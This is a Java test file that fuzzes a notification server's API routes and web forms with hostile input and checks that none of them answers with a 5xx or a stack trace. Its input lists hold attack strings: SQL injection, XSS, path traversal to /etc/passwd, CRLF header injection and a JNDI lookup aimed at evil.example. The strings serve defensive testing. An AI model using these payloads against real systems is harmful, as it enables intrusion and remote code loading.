package dev.herald.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.herald.model.SystemTemplates;
import dev.herald.model.UserRole;
import dev.herald.server.data.Passwords;
import dev.herald.server.data.User;
import dev.herald.server.data.UserDirectory;
import dev.herald.testing.PostgresExtension;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Walks every route of the published OpenAPI description and every form of the web UI with hostile input (control
 * characters, invalid UTF-8, broken percent-encoding, {@code null} and non-object bodies, wrong types, deep nesting,
 * huge numbers, times out of range, foreign charsets, bad ids) as a signed-in owner, so that handlers really run. Not
 * one answer may be a 5xx or show a stack trace.
 */
class HostileInputTest {

    @RegisterExtension
    static final FleetFixture fleet = new FleetFixture("hostile");

    private static final PostgresExtension postgres = fleet.postgres();
    private static final ObjectMapper json = new ObjectMapper();
    private static final String PASSWORD = "correct horse battery";
    private static final Pattern FORM =
            Pattern.compile("<form[^>]*method=\"post\"[^>]*action=\"([^\"]+)\"[^>]*>(.*?)</form>", Pattern.DOTALL);
    private static final Pattern FIELD = Pattern.compile("<(?:input|select|textarea)[^>]*name=\"([^\"]+)\"[^>]*>");
    private static final Pattern VALUE = Pattern.compile("value=\"([^\"]*)\"");

    /** Strings a careless handler would pass on to PostgreSQL, a log line, a header or a template. */
    private static final List<String> HOSTILE_TEXT = List.of(
            "\u0000",
            "a\u0000b",
            "\u0007\u001b[31mred",
            "line\r\nX-Injected: yes",
            "\u007f",
            "\ud800",
            "\udc00tail",
            "../../../etc/passwd",
            "' OR 1=1 --",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "{{#each}}{{/each}}",
            "",
            "   ",
            "x".repeat(20_000),
            "🚀".repeat(2_000),
            "+1000000000-01-01T00:00:00Z",
            "2026-13-45T99:99:99Z");

    /** JSON values of every type, and numbers and times no column can hold. */
    private static final List<String> HOSTILE_JSON = List.of(
            "null",
            "true",
            "-1",
            "0",
            "1.5",
            "1e309",
            "99999999999999999999",
            "9".repeat(1_100),
            "[]",
            "{}",
            "[null]",
            "{\"a\":null}",
            "\"+1000000000-01-01T00:00:00Z\"",
            "\"00000000-0000-0000-0000-000000000000\"");

    private static final List<String> HOSTILE_PATH = List.of(
            "%00",
            "a%0d%0aX-Injected:%20yes",
            "%C3%28",
            "%FF%FE",
            "%ZZ",
            "..%2F..%2Fetc",
            "%20",
            "-1",
            "99999999999999999999",
            "00000000-0000-0000-0000-000000000000",
            "x".repeat(3_000),
            "%F0%9F%9A%80");

    private static final List<String> HOSTILE_QUERY = List.of(
            "%00",
            "%0d%0a",
            "%C3%28",
            "%ZZ",
            "%2B1000000000-01-01T00%3A00%3A00Z",
            "-999999999-01-01T00%3A00%3A00Z",
            "99999999999999999999",
            "-1",
            "0",
            "x".repeat(3_000),
            "AAAA",
            Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString("+1000000000-01-01T00:00:00Z|00000000-0000-0000-0000-000000000000"
                            .getBytes(StandardCharsets.UTF_8)),
            Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString("2026-01-01T00:00:00Z|\u0000".getBytes(StandardCharsets.UTF_8)));

    private static RawHttp http;
    private static String ownerKey;
    private static String cookie;
    private static String csrf;
    private static String otherUser;

    @BeforeAll
    static void start() throws Exception {
        UserDirectory users = new UserDirectory(postgres.dataSource());
        User owner = users.create("owner@example.com", "owner", "Olive Owner", Set.of(UserRole.OWNER));
        users.setPasswordHash(owner.id(), Passwords.hash(PASSWORD));
        ownerKey = users.createKey(owner.id(), "hostile", Instant.now(), Duration.ofDays(1));
        User other = users.create("other@example.com", "other", "", Set.of(UserRole.MEMBER));
        otherUser = other.id().toString();
        HeraldServer server = fleet.start("api", "--dev");
        http = new RawHttp(server.apiPort().orElseThrow());
        RawHttp.Answer signedIn = http.send(
                "POST",
                "/login",
                Map.of("Content-Type", "application/x-www-form-urlencoded"),
                ("username=owner&password=" + URLEncoder.encode(PASSWORD, StandardCharsets.UTF_8))
                        .getBytes(StandardCharsets.UTF_8));
        assertThat(signedIn.status()).isEqualTo(303);
        cookie = signedIn.header("Set-Cookie").split(";")[0];
        Matcher token = Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"")
                .matcher(page("/settings/notifications").body());
        assertThat(token.find()).isTrue();
        csrf = token.group(1);
    }

    @Test
    void noApiRouteAnswers5xxOrAStackTraceToHostileInput() throws Exception {
        JsonNode openApi =
                json.readTree(http.get("/api/v2/openapi.json", Map.of()).body());
        List<String> failures = new ArrayList<>();
        int requests = 0;
        for (Map.Entry<String, JsonNode> path : openApi.path("paths").properties()) {
            for (Map.Entry<String, JsonNode> operation : path.getValue().properties()) {
                String method = operation.getKey().toUpperCase();
                if (path.getKey().equals("/api/v2/users/{user}") && method.equals("DELETE")) {
                    // Deleting is exercised with hostile names only, never with a real one.
                    for (String value : HOSTILE_PATH) {
                        requests += check(failures, method, "/api/v2/users/" + value, Map.of(), null);
                    }
                    continue;
                }
                requests += walk(failures, openApi, path.getKey(), method, operation.getValue());
            }
        }
        requests += check(failures, "GET", "/api/v2/users/me", Map.of("Coder-Session-Token", "-"), null);
        requests += check(
                failures, "GET", "/api/v2/users/me", Map.of("Coder-Session-Token", "a-" + "b".repeat(5000)), null);
        requests += check(failures, "GET", "/api/v2/users/me", Map.of("Authorization", "Bearer \u00e9\u00e9-x"), null);
        System.out.printf(
                "hostile input: %d API requests, %d answered 5xx or with a stack trace%n", requests, failures.size());
        assertThat(failures).isEmpty();
        assertThat(requests).isGreaterThan(500);
    }

    @Test
    void theEdgeNamesWhatItRefuses() {
        Map<String, String> owner = Map.of("Coder-Session-Token", ownerKey, "Content-Type", "application/json");

        RawHttp.Answer path = http.get("/api/v2/users/a%00b", owner);
        RawHttp.Answer body = http.send(
                "POST",
                "/api/v2/notifications/custom",
                owner,
                "{\"content\": {\"title\": \"a\\u0000b\", \"message\": \"x\"}}".getBytes(StandardCharsets.UTF_8));
        RawHttp.Answer charset = http.send(
                "PUT",
                "/api/v2/notifications/settings",
                Map.of("Coder-Session-Token", ownerKey, "Content-Type", "application/json; charset=iso-8859-1"),
                "{}".getBytes(StandardCharsets.UTF_8));

        assertThat(path.status())
                .as("Jetty refuses a NUL in the URI before any handler")
                .isEqualTo(400);
        assertThat(path.body()).contains("\"message\":\"The request was refused before it reached Herald");
        assertThat(path.header("Content-Security-Policy")).contains("frame-ancestors 'none'");
        RawHttp.Answer decoded = http.get("/api/v2/users/a%01b", owner);
        assertThat(decoded.status()).isEqualTo(400);
        assertThat(decoded.body()).contains("The request path contains the control character U+0001");
        assertThat(body.status()).isEqualTo(400);
        assertThat(body.body()).contains("\"field\":\"content.title\"").contains("U+0000");
        assertThat(charset.status()).isEqualTo(415);
    }

    @Test
    void noWebFormOrPageAnswers5xxOrAStackTraceToHostileInput() {
        List<String> failures = new ArrayList<>();
        int requests = 0;
        List<String> pages = List.of(
                "/login",
                "/settings/notifications",
                "/deployment/notifications?tab=events",
                "/deployment/notifications?tab=settings",
                "/deployment/notifications/messages",
                "/deployment/users",
                "/dev/mail");
        Map<String, Map<String, String>> forms = new LinkedHashMap<>();
        for (String page : pages) {
            Matcher form = FORM.matcher(page(page).body());
            while (form.find()) {
                Map<String, String> fields = new LinkedHashMap<>();
                Matcher field = FIELD.matcher(form.group(2));
                while (field.find()) {
                    Matcher value = VALUE.matcher(field.group());
                    fields.put(field.group(1), value.find() ? value.group(1) : "");
                }
                forms.putIfAbsent(form.group(1).replace("&amp;", "&"), fields);
            }
        }
        forms.remove("/logout");
        forms.remove("/login");
        assertThat(forms).as("forms found on the pages").hasSizeGreaterThan(4);
        for (Map.Entry<String, Map<String, String>> form : forms.entrySet()) {
            for (String name : form.getValue().keySet()) {
                if (name.equals("csrf")) {
                    continue;
                }
                for (String value : HOSTILE_TEXT) {
                    Map<String, String> fields = new LinkedHashMap<>(form.getValue());
                    fields.put(name, value);
                    requests += postForm(failures, form.getKey(), encode(fields));
                }
            }
            requests += postForm(failures, form.getKey(), "csrf=" + csrf + "&%ZZ=%C3%28");
            requests += postForm(failures, form.getKey(), "csrf=" + csrf + "&a%00b=1");
            requests += postForm(failures, form.getKey(), "%");
        }
        for (String path : List.of("/deployment/notifications/messages/", "/dev/mail/", "/deployment/users/")) {
            for (String value : HOSTILE_PATH) {
                requests += checkPage(failures, path + value);
            }
        }
        for (String parameter : List.of(
                "status",
                "method",
                "template_id",
                "user",
                "from",
                "to",
                "before",
                "tab",
                "next",
                "notice",
                "error",
                "disabled")) {
            for (String value : HOSTILE_QUERY) {
                requests += checkPage(failures, "/deployment/notifications/messages?" + parameter + "=" + value);
                requests += checkPage(failures, "/deployment/notifications?" + parameter + "=" + value);
            }
        }
        for (String value : HOSTILE_TEXT) {
            String body = encode(Map.of("username", value, "password", value, "next", value));
            requests += check(
                    failures,
                    "POST",
                    "/login",
                    Map.of("Content-Type", "application/x-www-form-urlencoded"),
                    body.getBytes(StandardCharsets.UTF_8));
            requests += check(
                    failures,
                    "POST",
                    "/login",
                    Map.of("Content-Type", "application/x-www-form-urlencoded"),
                    encode(Map.of("token", value)).getBytes(StandardCharsets.UTF_8));
        }
        System.out.printf(
                "hostile input: %d web requests, %d answered 5xx or with a stack trace%n", requests, failures.size());
        assertThat(failures).isEmpty();
        assertThat(requests).isGreaterThan(300);
    }

    /** Every path variant, every body and every query parameter of one operation. */
    private int walk(List<String> failures, JsonNode openApi, String template, String method, JsonNode operation) {
        int requests = 0;
        List<String> pathParameters = new ArrayList<>();
        List<String> queryParameters = new ArrayList<>();
        for (JsonNode parameter : operation.path("parameters")) {
            (parameter.path("in").asText().equals("path") ? pathParameters : queryParameters)
                    .add(parameter.path("name").asText());
        }
        boolean hasBody = method.equals("POST") || method.equals("PUT");
        byte[] emptyObject = hasBody ? "{}".getBytes(StandardCharsets.UTF_8) : null;
        for (String parameter : pathParameters) {
            for (String value : HOSTILE_PATH) {
                requests += owner(failures, method, fill(template, parameter, value), emptyObject, "application/json");
            }
        }
        String path = fill(template, null, null);
        for (String parameter : queryParameters) {
            for (String value : HOSTILE_QUERY) {
                requests +=
                        owner(failures, method, path + "?" + parameter + "=" + value, emptyObject, "application/json");
            }
        }
        if (!hasBody) {
            return requests;
        }
        for (String body : List.of(
                "",
                "null",
                "[]",
                "\"x\"",
                "123",
                "true",
                "{",
                "{\"a\":",
                "{\"a\":1,\"a\":2}",
                "[".repeat(10_000),
                "{\"a\":".repeat(200) + "1" + "}".repeat(200),
                "9".repeat(1_100),
                "{\"\\u0000\":1}",
                "{\"a\":\"\\ud800\"}",
                "{\"a\":\"" + "x".repeat(300_000) + "\"}")) {
            requests += owner(failures, method, path, body.getBytes(StandardCharsets.UTF_8), "application/json");
        }
        requests += owner(
                failures,
                method,
                path,
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, 0x28, '"', '}'},
                "application/json");
        requests += owner(failures, method, path, "{}".getBytes(StandardCharsets.UTF_8), "text/plain");
        requests += owner(
                failures, method, path, "{}".getBytes(StandardCharsets.UTF_8), "application/json; charset=iso-8859-1");
        requests += owner(
                failures,
                method,
                path,
                "--x\r\n\r\n".getBytes(StandardCharsets.UTF_8),
                "multipart/form-data; boundary=x");
        requests += owner(failures, method, path, "{}".getBytes(StandardCharsets.UTF_8), null);
        for (String property : properties(openApi, operation)) {
            for (String value : HOSTILE_JSON) {
                requests += owner(failures, method, path, body(property, value), "application/json");
            }
            for (String text : HOSTILE_TEXT) {
                requests += owner(failures, method, path, body(property, quote(text)), "application/json");
            }
        }
        return requests;
    }

    /** The request body's properties, nested ones written a.b, from the operation's schema. */
    private static List<String> properties(JsonNode openApi, JsonNode operation) {
        JsonNode schema = resolve(
                openApi,
                operation
                        .path("requestBody")
                        .path("content")
                        .path("application/json")
                        .path("schema"));
        List<String> names = new ArrayList<>();
        for (Map.Entry<String, JsonNode> field : schema.path("properties").properties()) {
            names.add(field.getKey());
            JsonNode nested = resolve(openApi, field.getValue());
            nested.path("properties").properties().forEach(inner -> names.add(field.getKey() + "." + inner.getKey()));
        }
        return names;
    }

    private static JsonNode resolve(JsonNode openApi, JsonNode schema) {
        String ref = schema.path("$ref").asText("");
        return ref.isEmpty() ? schema : openApi.at(ref.substring(1));
    }

    /** A body with {@code value} at {@code property} (a.b for nested), the JSON text written as given. */
    private static byte[] body(String property, String value) {
        String[] parts = property.split("\\.");
        String body = parts.length == 1
                ? "{\"" + parts[0] + "\":" + value + "}"
                : "{\"" + parts[0] + "\":{\"" + parts[1] + "\":" + value + "}}";
        return body.getBytes(StandardCharsets.UTF_8);
    }

    private static String quote(String text) {
        try {
            return json.writeValueAsString(text);
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    /** The path with {@code parameter} set to {@code value} and every other parameter to a harmless real value. */
    private static String fill(String template, String parameter, String value) {
        Matcher placeholder = Pattern.compile("\\{([^}]+)}").matcher(template);
        StringBuilder path = new StringBuilder();
        while (placeholder.find()) {
            String name = placeholder.group(1);
            String filled = name.equals(parameter)
                    ? value
                    : switch (name) {
                        case "user" -> otherUser;
                        case "id" ->
                            template.contains("templates")
                                    ? SystemTemplates.TEST_NOTIFICATION.toString()
                                    : "00000000-0000-0000-0000-000000000001";
                        case "event" -> "workspace-deleted";
                        default -> "unknown";
                    };
            placeholder.appendReplacement(path, Matcher.quoteReplacement(filled));
        }
        placeholder.appendTail(path);
        return path.toString();
    }

    private int owner(List<String> failures, String method, String target, byte[] body, String contentType) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Coder-Session-Token", ownerKey);
        if (contentType != null && body != null) {
            headers.put("Content-Type", contentType);
        }
        return check(failures, method, target, headers, body);
    }

    private int postForm(List<String> failures, String action, String body) {
        return check(
                failures,
                "POST",
                action,
                Map.of("Cookie", cookie, "Content-Type", "application/x-www-form-urlencoded"),
                body.getBytes(StandardCharsets.UTF_8));
    }

    private int checkPage(List<String> failures, String target) {
        return check(failures, "GET", target, Map.of("Cookie", cookie), null);
    }

    private static RawHttp.Answer page(String target) {
        return http.get(target, Map.of("Cookie", cookie == null ? "" : cookie));
    }

    private static int check(
            List<String> failures, String method, String target, Map<String, String> headers, byte[] body) {
        String shown = method + " " + (target.length() > 120 ? target.substring(0, 120) + "…" : target)
                + (body == null ? "" : " with " + preview(body));
        RawHttp.Answer answer;
        try {
            answer = http.send(method, target, headers, body);
        } catch (java.io.UncheckedIOException e) {
            failures.add("no answer for " + shown + ": " + e.getCause());
            return 1;
        }
        if (answer.status() >= 500 || answer.status() < 100) {
            failures.add(answer.status() + " for " + shown + ": "
                    + preview(answer.body().getBytes(StandardCharsets.UTF_8)));
        } else if (answer.body().contains("Exception")
                || answer.body().contains("\tat ")
                || answer.body().contains(".java:")) {
            failures.add(
                    "a stack trace for " + shown + ": " + preview(answer.body().getBytes(StandardCharsets.UTF_8)));
        }
        return 1;
    }

    private static String preview(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.UTF_8);
        return text.length() > 100 ? text.substring(0, 100) + "…" : text;
    }

    private static String encode(Map<String, String> fields) {
        List<String> pairs = new ArrayList<>();
        fields.forEach((name, value) -> pairs.add(URLEncoder.encode(name, StandardCharsets.UTF_8) + "="
                + URLEncoder.encode(value, StandardCharsets.UTF_8)));
        return String.join("&", pairs);
    }
}
